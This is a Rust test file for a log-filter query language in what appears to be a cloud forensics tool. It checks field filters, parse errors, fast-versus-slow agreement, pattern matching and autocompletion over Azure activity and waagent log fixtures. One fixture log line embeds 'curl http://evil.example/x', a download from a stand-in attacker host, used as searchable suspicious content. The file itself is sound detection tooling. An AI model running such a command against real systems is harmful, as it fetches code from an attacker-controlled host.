//! Filters over a small case: what each lets through, what each slip is told, and that the fast way agrees with a slow one.

use super::complete::complete;
use super::fields::{FIELDS, Source};
use super::run::{matching, rows};
use super::search::{Found, Hit, Scanner};
use super::{Filter, Node, Pattern, Term, Test, compose, fields};
use crate::case::Case;
use crate::case::store::EventNumber;
use crate::formats::ItemReader;
use crate::identity::{ResourceId, fold, host_label};
use crate::query;
use crate::settings::Settings;
use serde_json::json;

const AGENT: &str =
    "2024-05-01T10:02:00.000000Z INFO ExtHandler ExtHandler ProcessExtensionsGoalState started
2024-05-01T10:02:01.000000Z INFO ExtHandler ExtHandler say \"curl http://evil.example/x\" now
2024-05-01T10:02:02.000000Z INFO ExtHandler ExtHandler done
";

fn operation(
    number: u32,
    time: &str,
    caller: &str,
    ip: &str,
    vm: &str,
    name: &str,
    status: &str,
) -> serde_json::Value {
    json!({
        "eventTimestamp": time, "caller": caller, "httpRequest": {"clientIpAddress": ip},
        "operationName": {"value": name}, "status": {"value": status},
        "correlationId": format!("00000000-0000-0000-0000-{number:012}"),
        "eventDataId": format!("11111111-0000-0000-0000-{number:012}"),
        "resourceId": format!("/subscriptions/0000aaaa-0000-0000-0000-000000000001/resourceGroups/prod-eu/providers/Microsoft.Compute/virtualMachines/{vm}"),
    })
}

fn read(case: &mut Case, path: &str, bytes: &[u8]) {
    let item = case.add_item(path, bytes.len() as u64, None);
    let mut reader = ItemReader::new(
        path,
        bytes.len() as u64,
        None,
        case.settings().limits.clone(),
    );
    reader.push(bytes);
    case.finish_item(item, &reader.finish());
}

fn small_case() -> Case {
    let run = "Microsoft.Compute/virtualMachines/runCommand/action";
    let rows = json!([
        operation(
            1,
            "2024-05-01T10:00:00Z",
            "Alice@contoso.example",
            "203.0.113.7",
            "web01",
            run,
            "Started"
        ),
        operation(
            2,
            "2024-05-01T10:00:30Z",
            "alice@contoso.example",
            "203.0.113.9",
            "web01",
            run,
            "Succeeded"
        ),
        operation(
            3,
            "2024-05-01T10:01:00Z",
            "bob@contoso.example",
            "198.51.100.1",
            "build-7",
            run,
            "Failed"
        ),
        operation(
            4,
            "2024-05-02T00:00:00Z",
            "carol@contoso.example",
            "2001:db8::5",
            "db01",
            "Microsoft.Compute/virtualMachines/delete",
            "Succeeded"
        ),
    ]);
    let mut case = Case::new(Settings::default());
    read(
        &mut case,
        "cloud/activity.json",
        rows.to_string().as_bytes(),
    );
    read(&mut case, "web01/var/log/waagent.log", AGENT.as_bytes());
    case.conclude();
    case
}

/// The numbers, from 0 in order of time, of what a filter lets through.
fn shown(case: &Case, text: &str) -> Vec<usize> {
    let filter = Filter::parse(text).unwrap_or_else(|error| panic!("{text}: {error:?}"));
    let found = searched(case, &filter);
    let passed = rows(&filter, case, &found);
    let order = case.store().order();
    (0..order.len())
        .filter(|at| passed.contains(&order[*at]))
        .collect()
}

/// What workers would find: every item, in pieces of seven bytes.
fn searched(case: &Case, filter: &Filter) -> Found {
    let needles = filter.needles();
    let mut found = Found::nothing(&needles);
    for (item, at) in case.items().iter().zip(0..) {
        let text = if item.path.ends_with("waagent.log") {
            AGENT.as_bytes()
        } else {
            b""
        };
        let mut scanner = Scanner::new(&needles);
        for piece in text.chunks(7) {
            let hits = scanner.push(piece);
            found.note(case, at, &hits);
        }
    }
    found
}

#[test]
fn each_filter_lets_through_what_it_says() {
    let case = small_case();
    assert_eq!(case.store().order().len(), 7);
    // In order of time: 0, 1 alice on web01; 2 bob on build-7; 3, 4, 5 the agent of web01; 6 carol on db01.
    for (text, want) in [
        ("", vec![0, 1, 2, 3, 4, 5, 6]),
        ("caller:alice*", vec![0, 1]),
        ("caller:ALICE@contoso.example", vec![0, 1]),
        ("caller:alice", vec![]),
        ("caller:(alice* or bob*)", vec![0, 1, 2]),
        ("caller:(alice* bob*)", vec![0, 1, 2]),
        ("caller:(*contoso* and not bob*)", vec![0, 1, 6]),
        ("caller:*", vec![0, 1, 2, 6]),
        ("not caller:*", vec![3, 4, 5]),
        ("-caller:*", vec![3, 4, 5]),
        ("caller:/^(alice|carol)@/", vec![0, 1, 6]),
        ("caller:\"alice*\"", vec![]),
        ("caller != alice*", vec![2, 3, 4, 5, 6]),
        ("vm:web01", vec![0, 1, 3, 4, 5]),
        ("vm:web?1", vec![0, 1, 3, 4, 5]),
        ("host:web01", vec![3, 4, 5]),
        ("vm:(web01 or db01) and not kind:guest.*", vec![0, 1, 6]),
        ("resource:web01", vec![0, 1]),
        ("group:prod-*", vec![0, 1, 2, 6]),
        ("subscription:0000aaaa*", vec![0, 1, 2, 6]),
        ("operation:delete", vec![6]),
        ("operation:runcommand outcome:failed", vec![2]),
        ("outcome:(succeeded or failed)", vec![1, 2, 6]),
        ("ip:203.0.113.0/24", vec![0, 1]),
        ("ip:2001:db8::/32", vec![6]),
        ("ip:203.0.113.7", vec![0]),
        ("kind:cloud.operation", vec![0, 1, 2, 6]),
        ("kind:cloud*", vec![0, 1, 2, 6]),
        ("path:waagent.log", vec![3, 4, 5]),
        ("format:waagent-log", vec![3, 4, 5]),
        ("path:*/log/*", vec![3, 4, 5]),
        ("record>=2 path:waagent.log", vec![5]),
        ("record:[0 TO 1] path:waagent.log", vec![3, 4]),
        ("time:2024-05-01", vec![0, 1, 2, 3, 4, 5]),
        ("time:2024-05-01T10:00", vec![0, 1]),
        ("time:2024-05-01T10:00:00Z", vec![0]),
        ("time > 2024-05-01T10:01Z", vec![3, 4, 5, 6]),
        ("time >= 2024-05-01T10:01Z", vec![2, 3, 4, 5, 6]),
        ("time<=2024-05-01T12:01+02:00", vec![0, 1, 2]),
        (
            "time:[2024-05-01T10:00:30Z TO 2024-05-01T10:01Z]",
            vec![1, 2],
        ),
        ("time:{2024-05-01T10:00:30Z TO *]", vec![2, 3, 4, 5, 6]),
        ("time:[* TO 2024-05-02}", vec![0, 1, 2, 3, 4, 5]),
        ("\"curl http\"", vec![4]),
        ("CURL", vec![4]),
        ("not curl", vec![0, 1, 2, 3, 5, 6]),
        ("bob or curl", vec![2, 4]),
        ("alice web01", vec![0, 1]),
        ("evil.example host:web01", vec![4]),
        (
            "caller:alice* and not vm:build-* and time > 2024-05-01T10:00Z",
            vec![1],
        ),
        (
            "(caller:alice* or caller:bob*) and outcome:(started or failed)",
            vec![0, 2],
        ),
        ("detector:run-command-invocation outcome:failed", vec![2]),
        ("detector:nothing", vec![]),
        ("basis:utc kind:guest.agent", vec![3, 4, 5]),
    ] {
        assert_eq!(shown(&case, text), want, "{text}");
    }
}

#[test]
fn a_slip_is_shown_where_it_is() {
    for (text, at, length, said) in [
        ("callr:alice", 0, 5, "did you mean caller?"),
        ("http://evil", 0, 4, "put it in quotes"),
        ("caller:alice (vm:x", 13, 1, "not closed"),
        ("vm:x )", 5, 1, "closes nothing"),
        ("\u{fc}\u{1f600} \"abc", 4, 4, "quote"),
        ("time > yesterday", 7, 9, "a moment is written"),
        ("caller > a", 9, 1, "is text"),
        ("ip:203.0.113.0/77", 3, 14, "a network is written"),
        ("vm:/(/", 3, 3, "refused"),
        ("vm:", 3, 1, "a value of vm is missing"),
        ("a and", 5, 1, "missing at the end"),
        ("a or or b", 5, 2, "a term is missing here"),
        ("()", 1, 1, "missing before this"),
        ("severity:awful", 9, 5, "info, low"),
        (":x", 0, 1, "name of a field is missing"),
        ("time:[1 2]", 5, 5, "[from TO to]"),
    ] {
        let error = Filter::parse(text).expect_err(text);
        assert_eq!((error.at, error.length), (at, length), "{text}: {error:?}");
        assert!(error.text.contains(said), "{text}: {}", error.text);
    }
    let deep = "(".repeat(70) + "a" + &")".repeat(70);
    assert!(Filter::parse(&deep).expect_err("deep").text.contains("64"));
    assert!(
        Filter::parse(&"not ".repeat(70))
            .expect_err("deep")
            .text
            .contains("64")
    );
    assert!(
        Filter::parse(&"a ".repeat(1_001))
            .expect_err("many")
            .text
            .contains("1000")
    );
    assert!(Filter::parse(&"a".repeat(20_000)).is_err());
}

#[test]
fn every_field_has_its_own_name_and_an_example_that_is_one() {
    let mut names: Vec<&str> = FIELDS
        .iter()
        .flat_map(|field| field.also.iter().chain([&field.name]).copied())
        .collect();
    let count = names.len();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), count, "two fields share a name");
    for field in FIELDS {
        assert!(
            Filter::parse(&format!("{}:{}", field.name, field.example)).is_ok(),
            "{}",
            field.name
        );
    }
}

/// A die without a crate: the same throws every time.
struct Die(u64);

impl Die {
    fn throw(&mut self, sides: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        ((self.0 >> 33) as usize) % sides
    }

    fn filter(&mut self, depth: usize) -> String {
        const TERMS: &[&str] = &[
            "caller:alice*",
            "caller:*",
            "vm:web01",
            "host:web*",
            "ip:203.0.113.0/24",
            "kind:guest.*",
            "outcome:failed",
            "operation:delete",
            "time > 2024-05-01T10:00:30Z",
            "time:2024-05-01T10",
            "path:waagent.log",
            "resource:db01",
            "record>0",
            "group:prod-eu",
            "bob",
            "example",
            "caller:/l/",
            "severity>=low",
            "correlation:*3",
            "format:*rest",
        ];
        if depth == 0 || self.throw(3) == 0 {
            return TERMS[self.throw(TERMS.len())].to_owned();
        }
        let (one, other) = (self.filter(depth - 1), self.filter(depth - 1));
        match self.throw(4) {
            0 => format!("not ({one})"),
            1 => format!("({one}) or ({other})"),
            2 => format!("({one}) and ({other})"),
            _ => format!("({one}) ({other})"),
        }
    }
}

/// One event at a time, from the row that the page would show.
fn slowly(case: &Case, node: &Node, event: EventNumber) -> bool {
    let row = query::rows::row(case, event, 0);
    match node {
        Node::All(parts) => parts.iter().all(|part| slowly(case, part, event)),
        Node::Any(parts) => parts.iter().any(|part| slowly(case, part, event)),
        Node::Not(part) => !slowly(case, part, event),
        Node::Text(text) => {
            let correlation = case
                .store()
                .column(&case.store().columns.correlation, event)
                .map(str::to_owned);
            [
                &row.actor,
                &row.ip,
                &row.resource,
                &row.operation,
                &correlation,
                &Some(row.path.clone()),
            ]
            .into_iter()
            .flatten()
            .any(|value| fold(value).contains(&fold(text)))
        }
        Node::Term(Term { field, test }) => {
            let between = |value: i128| matches!(test, Test::Between { from, to } if from.is_none_or(|from| value >= from) && to.is_none_or(|to| value < to));
            let resource = ResourceId::parse(row.resource.as_deref().unwrap_or(""));
            let values: Vec<String> = match field.source {
                Source::Time => {
                    return case
                        .store()
                        .stamp(event)
                        .is_some_and(|stamp| between(i128::from(stamp.instant.ns)));
                }
                Source::Record => {
                    return between(i128::from(
                        case.store().columns.record.get(event as usize).unwrap_or(0),
                    ));
                }
                Source::Severity => {
                    return case.findings().iter().any(|finding| {
                        between(finding.severity as i128)
                            && case.finding_events(finding).any(|other| *other == event)
                    });
                }
                Source::Caller => row.actor.into_iter().collect(),
                Source::Vm => resource
                    .vm()
                    .into_iter()
                    .chain(row.host.map(|host| host_label(&host)))
                    .collect(),
                Source::Host => row.host.into_iter().collect(),
                Source::Ip => row.ip.into_iter().collect(),
                Source::Kind => vec![row.kind.to_owned()],
                Source::Outcome => row.outcome.map(str::to_owned).into_iter().collect(),
                Source::Operation => row.operation.into_iter().collect(),
                Source::Path => vec![row.path],
                Source::Resource => row.resource.into_iter().collect(),
                Source::Group => resource
                    .resource_group()
                    .map(str::to_owned)
                    .into_iter()
                    .collect(),
                Source::Correlation => case
                    .store()
                    .column(&case.store().columns.correlation, event)
                    .map(str::to_owned)
                    .into_iter()
                    .collect(),
                Source::Format => case.items()[case.store().item_of(event) as usize]
                    .report
                    .iter()
                    .map(|report| report.format.clone())
                    .collect(),
                other => panic!("{other:?} is not among the terms"),
            };
            values.iter().any(|value| match test {
                Test::Present => true,
                Test::Like(pattern) => {
                    naive(pattern, &fold(value))
                        || fold(value).split('/').any(|part| naive(pattern, part))
                }
                Test::Matches(expression) => expression.is_match(value),
                Test::Within(network) => value.parse().is_ok_and(|address| network.holds(address)),
                Test::Between { .. } => false,
            })
        }
    }
}

/// A pattern as an expression.
fn naive(pattern: &Pattern, text: &str) -> bool {
    let expression: String = pattern
        .parts
        .iter()
        .map(|piece| match piece {
            super::Piece::Letter(letter) => regex::escape(&letter.to_string()),
            super::Piece::One => ".".to_owned(),
            super::Piece::Many => ".*".to_owned(),
        })
        .collect();
    regex::Regex::new(&format!("^(?s:{expression})$"))
        .is_ok_and(|expression| expression.is_match(text))
}

#[test]
fn sixty_four_at_a_time_is_the_same_as_one_at_a_time() {
    let case = small_case();
    let mut die = Die(5);
    let mut passed = 0;
    for _ in 0..400 {
        let text = die.filter(4);
        let filter = Filter::parse(&text).unwrap_or_else(|error| panic!("{text}: {error:?}"));
        let bits = matching(&filter, &case, &Found::nothing(&filter.needles()));
        for event in 0..7 {
            let want = filter
                .root
                .as_ref()
                .is_none_or(|root| slowly(&case, root, event));
            assert_eq!(bits.has(event as usize), want, "{text} on event {event}");
            passed += usize::from(want);
        }
    }
    // The filters are neither all empty nor all open.
    assert!((400..2_400).contains(&passed), "{passed}");
}

#[test]
fn patterns_agree_with_expressions() {
    let mut die = Die(11);
    for _ in 0..3_000 {
        let mut letters = |most: usize, of: &[char]| -> String {
            (0..die.throw(most))
                .map(|_| of[die.throw(of.len())])
                .collect()
        };
        let (form, text) = (letters(7, &['a', 'b', '*', '?']), letters(9, &['a', 'b']));
        let Ok(Filter {
            root:
                Some(Node::Term(Term {
                    test: Test::Like(pattern),
                    ..
                })),
        }) = Filter::parse(&format!("vm:{form}"))
        else {
            continue;
        };
        assert_eq!(
            pattern.fits(&text),
            naive(&pattern, &text),
            "{form} on {text}"
        );
    }
}

#[test]
fn any_text_is_a_filter_or_a_slip_inside_it() {
    let mut die = Die(3);
    let parts = [
        "caller",
        ":",
        "\"",
        "(",
        ")",
        " ",
        "and",
        "or",
        "not",
        "-",
        "!",
        "=",
        "<",
        "time",
        "[",
        "]",
        " TO ",
        "/",
        "\\",
        "*",
        "\u{1f600}",
        "2024-13-45",
        "a",
    ];
    for _ in 0..20_000 {
        let text: String = (0..die.throw(12))
            .map(|_| parts[die.throw(parts.len())])
            .collect();
        if let Err(error) = Filter::parse(&text) {
            let units = text.encode_utf16().count();
            assert!(
                error.at <= units && error.length >= 1,
                "{text:?}: {error:?}"
            );
            assert!(!error.text.is_empty());
        }
    }
}

#[test]
fn texts_are_found_in_every_spelling_and_at_any_cut() {
    let utf16 = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let mut bytes = b"--Say \"Hi\"--".to_vec();
    let mut places = vec![2];
    for spelling in [
        b"say \\\"hi\\\"".to_vec(),
        b"say &quot;hi&quot;".to_vec(),
        utf16("SAY \"hi\""),
    ] {
        places.push(bytes.len() as u64);
        bytes.extend(spelling);
        bytes.extend(b"..");
    }
    for cut in 1..bytes.len() {
        let mut scanner = Scanner::new(&["say \"hi\"", "absent"]);
        let hits: Vec<Hit> = bytes
            .chunks(cut)
            .flat_map(|piece| scanner.push(piece))
            .collect();
        let mut found: Vec<u64> = hits.iter().map(|hit| hit.offset).collect();
        found.sort_unstable();
        assert_eq!(found, places, "pieces of {cut}");
        assert!(hits.iter().all(|hit| hit.needle == 0));
    }
    assert!(Scanner::new::<&str>(&[]).push(b"abc").is_empty());
    assert!(Scanner::new(&[""]).push(b"abc").is_empty());
}

#[test]
fn a_click_writes_a_filter_that_finds_what_was_clicked() {
    let case = small_case();
    let caller = fields::field("caller").expect("a field");
    assert_eq!(
        compose::term(caller, "alice@contoso.example", false),
        "caller:alice@contoso.example"
    );
    assert_eq!(compose::with("", "vm:a"), "vm:a");
    assert_eq!(
        compose::with("vm:a or vm:b", "caller:x"),
        "(vm:a or vm:b) caller:x"
    );
    assert_eq!(compose::with("vm:a", "vm:a"), "vm:a");
    assert_eq!(compose::with("vm:(", "caller:x"), "caller:x");
    let awkward = "a\"b\\c *d (e) /f";
    let Ok(Filter {
        root:
            Some(Node::Term(Term {
                test: Test::Like(pattern),
                ..
            })),
    }) = Filter::parse(&compose::term(caller, awkward, false))
    else {
        panic!("{}", compose::term(caller, awkward, false));
    };
    assert!(pattern.fits(awkward) && !pattern.fits("a\"b\\c xd (e) /f"));
    let ip = fields::field("ip").expect("a field");
    assert_eq!(
        shown(&case, &compose::term(ip, "2001:db8::5", true)),
        [0, 1, 2, 3, 4, 5]
    );
    let moment = case
        .store()
        .stamp(case.store().order()[2])
        .expect("a time")
        .instant;
    assert_eq!(
        compose::around(moment, 30),
        "time:[2024-05-01T10:00:30Z TO 2024-05-01T10:01:30Z]"
    );
    assert_eq!(shown(&case, &compose::around(moment, 30)), [1, 2]);
}

#[test]
fn what_could_stand_at_the_cursor() {
    let case = small_case();
    let inserts = |text: &str| -> Vec<String> {
        complete(&case, text, text.encode_utf16().count())
            .completions
            .into_iter()
            .map(|one| one.insert)
            .collect()
    };
    assert_eq!(inserts("cal"), ["caller:", "ip:"]);
    assert_eq!(inserts("vm:x and ope"), ["operation:"]);
    assert_eq!(inserts("caller:bo"), ["caller:bob@contoso.example"]);
    let kinds = complete(&case, "-kind:", 6);
    assert_eq!(kinds.from, 1);
    assert_eq!(
        kinds
            .completions
            .first()
            .map(|one| (one.insert.as_str(), one.events)),
        Some(("kind:cloud.operation", Some(4)))
    );
    assert!(inserts("\"cal").is_empty());
    assert_eq!(inserts("").len(), FIELDS.len());
}
